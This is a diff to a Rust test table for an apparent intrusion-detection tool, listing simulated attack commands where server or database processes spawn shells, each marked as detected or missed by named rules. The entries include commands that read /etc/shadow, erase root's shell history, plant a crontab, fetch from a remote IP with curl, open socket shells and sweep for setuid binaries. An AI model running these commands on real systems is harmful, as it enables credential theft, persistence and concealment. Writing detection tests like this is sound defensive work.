@@ -1,8 +1,8 @@
 //! What a server or a database is made to start.
 
 use super::Way::{Exec, Start};
-use super::rules::{DATABASE, DISCOVERY, HISTORY, PLANTED, REVERSE, SECRET, SERVER, TUNNEL};
-use super::{Technique, UNKNOWN_FORM, missed, told};
+use super::rules::{COMMAND, DATABASE, DISCOVERY, HISTORY, LOADER, PLANTED, REVERSE, SECRET, SERVER, TUNNEL};
+use super::{Technique, missed, told};
 
 pub(super) const TECHNIQUES: [Technique; 31] = [
     told(
@@ -11,52 +11,42 @@ pub(super) const TECHNIQUES: [Technique; 31] = [
         "java --starts same sh -c id",
         &[SERVER],
     ),
-    missed(
+    told(
         "a-list-from-a-server",
         Exec,
         "java --starts same sh -c ls",
-        &[SERVER],
-        UNKNOWN_FORM,
+        &[SERVER, COMMAND],
     ),
-    missed(
+    told(
         "a-question-in-other-words",
         Exec,
         "node --starts same sh -c ' id'",
-        &[SERVER],
-        UNKNOWN_FORM,
+        &[SERVER, COMMAND],
     ),
-    missed(
+    told(
         "a-question-with-a-variable",
         Exec,
         "python3.11 --starts same sh -c 'A=1 id'",
-        &[SERVER],
-        UNKNOWN_FORM,
+        &[SERVER, COMMAND],
     ),
-    missed(
+    told(
         "a-question-behind-another",
         Exec,
         "gunicorn --starts same sh -c 'cd /; whoami'",
-        &[SERVER],
-        UNKNOWN_FORM,
+        &[SERVER, COMMAND],
     ),
     told(
         "a-shell-by-way-of-env",
         Exec,
-        "java --starts same env sh -c id",
+        "java --starts same env sh -c 'id -u'",
         &[SERVER],
     ),
-    missed(
-        "a-shell-with-an-option",
-        Exec,
-        "java --starts pipe sh +m",
-        &[SERVER],
-        UNKNOWN_FORM,
-    ),
+    told("a-shell-with-an-option", Exec, "java --starts pipe sh +m", &[SERVER]),
     told("a-shell-through-pipes", Exec, "java --starts pipe sh", &[SERVER]),
     told(
         "a-shell-through-a-socket",
         Exec,
-        "java --starts socket sh",
+        "java --starts socket sh -e",
         &[SERVER, REVERSE],
     ),
     missed(
@@ -64,21 +54,19 @@ pub(super) const TECHNIQUES: [Technique; 31] = [
         Exec,
         "w --starts socket sh -c ls",
         &[REVERSE],
-        UNKNOWN_FORM,
+        "no field tells what the descriptors are",
     ),
-    missed(
+    told(
         "a-shell-by-the-loader",
         Exec,
         "java --starts pipe /lib64/ld-linux-x86-64.so.2 /bin/sh",
-        &[SERVER],
-        UNKNOWN_FORM,
+        &[SERVER, LOADER],
     ),
-    missed(
+    told(
         "a-script-language-with-a-version",
         Exec,
         "php8.2 --starts same sh -c 'curl http://198.51.100.7/x'",
-        &[SERVER],
-        UNKNOWN_FORM,
+        &[SERVER, COMMAND],
     ),
     told(
         "a-pool-with-a-version",
@@ -90,14 +78,13 @@ pub(super) const TECHNIQUES: [Technique; 31] = [
         "another-language-with-a-version",
         Exec,
         "ruby3.1 --starts same sh -c whoami",
-        &[SERVER],
+        &[SERVER, COMMAND],
     ),
-    missed(
+    told(
         "a-language-of-games",
         Exec,
         "lua5.4 --starts same sh -c id",
-        &[SERVER],
-        UNKNOWN_FORM,
+        &[SERVER, COMMAND],
     ),
     told(
         "a-proxy-that-needs-no-shell",
@@ -109,7 +96,7 @@ pub(super) const TECHNIQUES: [Technique; 31] = [
         "a-server-of-the-containers-start",
         Start,
         "java --starts same sh -c 'uname -a'",
-        &[SERVER],
+        &[SERVER, COMMAND],
     ),
     told(
         "a-server-of-the-start-reads-a-secret",
@@ -135,26 +122,23 @@ pub(super) const TECHNIQUES: [Technique; 31] = [
         "java --starts same sh -c 'crontab /tmp/x; :'",
         &[PLANTED],
     ),
-    missed(
+    told(
         "below-a-script-called-as-a-start",
         Start,
-        "cp /usr/bin/java /tmp/entrypoint.sh; /tmp/entrypoint.sh --starts same cat /etc/shadow",
+        "cp /usr/bin/java /tmp/entrypoint.sh; exec java --starts same /tmp/entrypoint.sh --starts same cat /etc/shadow",
         &[SECRET],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "hiding-below-a-script-called-as-a-start",
         Start,
-        "cp /usr/bin/java /tmp/entrypoint; /tmp/entrypoint --starts same rm /root/.bash_history",
+        "cp /usr/bin/java /tmp/entrypoint; exec java --starts same /tmp/entrypoint --starts same rm /root/.bash_history",
         &[HISTORY],
-        UNKNOWN_FORM,
     ),
-    missed(
+    told(
         "below-a-script-called-as-an-installer",
         Exec,
         "cp /usr/bin/java /tmp/x.postinst; /tmp/x.postinst --starts same cat /etc/shadow",
         &[SECRET],
-        UNKNOWN_FORM,
     ),
     told(
         "a-copy-to-a-program",
@@ -162,12 +146,11 @@ pub(super) const TECHNIQUES: [Technique; 31] = [
         "postgres --starts same sh -c 'id > /tmp/o'",
         &[DATABASE],
     ),
-    missed(
+    told(
         "behind-an-archiving-command",
         Exec,
         "postgres --starts same sh -c 'cp pg_wal/1 /a; bash /tmp/x'",
         &[DATABASE],
-        UNKNOWN_FORM,
     ),
     told(
         "a-module-of-a-store",
@@ -175,12 +158,11 @@ pub(super) const TECHNIQUES: [Technique; 31] = [
         "redis-server --starts pipe sh",
         &[DATABASE],
     ),
-    missed(
+    told(
         "a-function-of-a-library",
         Exec,
         "mariadbd --starts same sh -c 'wsrep_sst_rsync; id'",
         &[DATABASE],
-        UNKNOWN_FORM,
     ),
     told(
         "questions-in-a-row",
@@ -193,12 +175,12 @@ pub(super) const TECHNIQUES: [Technique; 31] = [
         Exec,
         "env; cat /proc/version; cat /proc/mounts; getent hosts; find / -perm -4000; getcap -r /; cat /etc/os-release; cat /proc/net/tcp",
         &[DISCOVERY],
-        UNKNOWN_FORM,
+        "scripts of every day ask by these tools too",
     ),
     told(
         "daemons-read-secrets",
         Exec,
-        "setsid sh -c 'cat /etc/shadow & :'; sleep 0.1",
+        "setsid sh -c 'cat /etc/shadow /etc/gshadow & :'; sleep 0.1",
         &[SECRET],
     ),
 ];
